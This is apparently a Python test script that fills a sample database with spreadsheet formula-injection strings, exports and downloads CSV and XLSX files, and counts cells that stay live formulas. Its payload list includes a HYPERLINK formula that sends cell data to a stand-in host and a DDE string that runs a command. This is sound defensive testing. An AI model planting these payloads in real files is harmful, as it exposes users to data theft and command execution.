"""Every download of a database whose texts are formulas, opened again cell by cell: CSV as text,
XLSX as the sheets that a spreadsheet would see."""

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import sys
import tempfile
from argparse import Namespace
from collections.abc import Iterator
from contextlib import closing
from itertools import product
from pathlib import Path

import openpyxl
from results import ROOT, Row, keep
from served import Server, serving

CHROMIUM = "/usr/bin/chromium"
FORMULAS = (
    '=HYPERLINK("http://other.test/"&A1,"x")', "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", " \n=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
    '"=1+1', "';=1+1", ";=1+1", "＝1+1",
)  # fmt: skip
TEXTS = {
    "agency": ("unit",), "report": ("title", "unit", "file", "url", "published"),
    "claim": ("quote",), "section": ("heading", "text"), "region": ("name",), "unread": ("raw",),
    "refusal": ("file", "message_zh", "message_en"),
}  # fmt: skip
TABLES = "figures figures_long claims sections findings agencies regions refusals".split()
PAGES = "overview disclosure applications proceedings checks compare unit report search data"
_LIVE = ("=", "+", "-", "@", "\t", "\r")  # what begins a formula where a spreadsheet reads text


def run(asked: Namespace) -> None:
    """Measure, and keep the figures."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        held = formulas(folder)
        rows = [_counted(each, found) for each, found in exported(folder, held)]
        with serving(held) as server:
            rows += [_counted(each, found) for each, found in downloaded(server)]
    figures = {"cells": sum(int(row["cells"]) for row in rows)}
    keep(asked.results, "cells", {**figures, "live": sum(int(row["live"]) for row in rows)}, rows)


def formulas(folder: Path) -> Path:
    """A database whose every text begins as a formula, each of another kind in turn."""
    held = folder / "held.db"
    words = ["sample", "--units", "24", "--years", "2021-2023", "--db", str(held)]
    subprocess.run([sys.executable, "-m", "goidata", *words], cwd=ROOT, check=True)
    with closing(sqlite3.connect(held)) as opened, opened:
        for table, columns in TEXTS.items():
            for column, (at, formula) in product(columns, enumerate(FORMULAS)):
                opened.execute(
                    f'UPDATE "{table}" SET "{column}" = ? || coalesce("{column}", \'\')'
                    f" WHERE rowid % {len(FORMULAS)} = {at}",
                    [formula],
                )
    return held


def exported(folder: Path, held: Path) -> Iterator[tuple[str, bytes]]:
    """What the command writes of every table."""
    for table, kind in product(TABLES, ("csv", "xlsx")):
        to = folder / f"{table}.{kind}"
        words = ("export", table, "--to", str(to), "--db", str(held))
        subprocess.run([sys.executable, "-m", "goidata", *words], cwd=ROOT, check=True)
        yield to.name, to.read_bytes()


def downloaded(server: Server) -> Iterator[tuple[str, bytes]]:
    """What a browser gets by every button at the foot of every page."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as started:
        chromium = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        page = chromium.new_page()
        for name in PAGES.split():
            where = "" if name == "overview" else name
            page.goto(f"{server.address}{where}{'?words=1' if name == 'search' else ''}")
            page.wait_for_selector(".g-foot", timeout=120_000)
            for button in page.locator("[data-testid=stDownloadButton] button").all():
                label = button.inner_text()
                if not any(kind in label.upper() for kind in ("CSV", "XLSX")):
                    continue
                with page.expect_download(timeout=120_000) as taken:
                    button.click()
                kind = taken.value.suggested_filename.rpartition(".")[2]
                if kind in ("csv", "xlsx"):
                    yield f"{name}: {label}.{kind}", Path(taken.value.path()).read_bytes()
        chromium.close()


def _counted(file: str, content: bytes) -> Row:
    cells = list(_csv(content) if file.endswith(".csv") else _xlsx(content))
    row = {"file": file, "cells": len(cells), "live": sum(cells)}
    print(row, flush=True)
    return row


def _csv(content: bytes) -> Iterator[bool]:
    """Whether each cell is live; a number is none, whatever its sign."""
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for cell in row:
            yield cell.lstrip().startswith(_LIVE) and not _is_number(cell)


def _xlsx(content: bytes) -> Iterator[bool]:
    """Whether each cell is a formula, or a text that would become one when it is typed again."""
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    typed = isinstance(cell.value, str) and cell.value.lstrip().startswith(_LIVE)
                    yield cell.data_type == "f" or cell.hyperlink is not None or typed


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
